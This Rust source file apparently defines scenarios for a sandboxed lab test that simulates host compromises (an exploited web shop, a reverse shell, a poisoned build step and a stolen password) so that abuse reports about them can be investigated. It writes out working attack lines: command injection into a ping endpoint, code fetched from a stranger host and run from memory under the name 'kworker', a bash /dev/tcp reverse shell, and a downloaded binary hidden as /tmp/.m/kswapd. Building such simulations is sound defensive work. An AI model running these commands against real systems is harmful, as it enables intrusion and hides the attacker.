//! Somebody else is in control: through a service, a stolen password, a poisoned build.

use super::Scenario;
use super::Stage;
use super::stage::STRANGER;

const SCANNING: &str = "scanning remote hosts on the internet for security vulnerabilities";
const CONTROLLED: &str = "communication with a botnet command and control server";
const MINING: &str = "cryptocurrency mining";

pub(super) const ALL: &[Scenario] = &[
    Scenario::new("web-application-exploited", |stage| {
        shop(stage)?;
        // Downloads a scanner, runs it from memory under another name, and leaves no file.
        let payload = format!(
            "curl -s http://{STRANGER}:8000/scanner -o /tmp/.cache; python3 -c 'import os; \
             f=os.memfd_create(\"kworker\"); os.write(f, open(\"/tmp/.cache\",\"rb\").read()); os.unlink(\"/tmp/.cache\"); \
             os.execve(f, [\"kworker\",\"-sT\",\"-p\",\"1-400\",\"198.51.100.20\"], os.environ)'"
        );
        exploit(stage, &payload)?;
        stage.accuse(SCANNING, 390)
    }),
    Scenario::new("reverse-shell", |stage| {
        stage.serve("victim", "nc -lkp 4444 >/dev/null & echo ready; wait")?;
        shop(stage)?;
        exploit(stage, "timeout 3 bash -c 'bash -i >& /dev/tcp/198.51.100.20/4444 0>&1'; true")?;
        stage.accuse(CONTROLLED, 1)
    }),
    Scenario::new("miner-of-a-poisoned-build", |stage| {
        stage.serve("victim", "nc -lkp 3333 >/dev/null & echo ready; wait")?;
        stranger_serves(stage)?;
        let step = format!(
            "curl -s http://{STRANGER}:8000/miner -o /tmp/.m/kswapd || mkdir -p /tmp/.m && \
             curl -s http://{STRANGER}:8000/miner -o /tmp/.m/kswapd\nchmod +x /tmp/.m/kswapd\n\
             for i in 1 2 3 4 5 6; do timeout 1 /tmp/.m/kswapd -w 1 198.51.100.20 3333; done\n"
        );
        stage.write("/usr/local/bin/step.sh", &step)?;
        stage.record()?;
        stage.service("actions-runner.service", "deploy", &["bash", "/usr/local/bin/step.sh"])?;
        stage.accuse(MINING, 5)
    }),
    Scenario::new("stolen-password", |stage| {
        stage.root("echo alice:tr0ub4dor | chpasswd")?;
        stage.root(&format!("python3 - > /var/log/auth.log <<'END'\n{}\nEND", include_str!("habits.py")))?;
        stage.record()?;
        for wrong in ["alice", "123456", "letmein", "password1", "alice2026", "Winter26"] {
            stage.with_password("alice", wrong, "true")?;
        }
        // The owner works meanwhile, with her key, from where she always comes.
        let owner = stage.lab.session("alice", "sleep 6; uptime")?;
        let line = "cp /usr/bin/nmap /tmp/.x; /tmp/.x -sT -p 1-400 198.51.100.20; true";
        anyhow::ensure!(stage.with_password("alice", "tr0ub4dor", line)?, "the password was refused");
        owner.wait(std::time::Duration::from_secs(30))?;
        stage.accuse(SCANNING, 390)
    })
    .told_at(3, 12),
];

/// The stranger's web server, with tools to download.
fn stranger_serves(stage: &mut Stage) -> anyhow::Result<()> {
    let dir = stage.lab.dir().join("stranger");
    std::fs::create_dir_all(&dir)?;
    std::fs::copy("/usr/bin/nmap", dir.join("scanner"))?;
    std::fs::copy(std::fs::canonicalize("/usr/bin/nc")?, dir.join("miner"))?;
    let serve = format!(
        "cd {} && python3 -m http.server --bind {STRANGER} 8000 & until nc -z {STRANGER} 8000; do sleep 0.1; done; \
         echo ready; wait",
        dir.display()
    );
    stage.serve("laptop", &serve)
}

/// A web application that puts what it is asked for into a shell's command line.
fn shop(stage: &mut Stage) -> anyhow::Result<()> {
    stranger_serves(stage)?;
    stage.write("/usr/local/bin/shop.py", include_str!("shop.py"))?;
    stage.service("shop.service", "www-data", &["python3", "/usr/local/bin/shop.py"])?;
    stage.wait_for_port("tcp", 8080)?;
    stage.record()
}

fn exploit(stage: &Stage, payload: &str) -> anyhow::Result<()> {
    let file = stage.lab.dir().join("payload");
    std::fs::write(&file, format!("; {payload}"))?;
    let ask = format!(
        "curl -s -m 50 --interface {STRANGER} -G --data-urlencode host@{} http://192.0.2.10:8080/ping",
        file.display()
    );
    stage.on(stage.lab.laptop(), &ask)
}
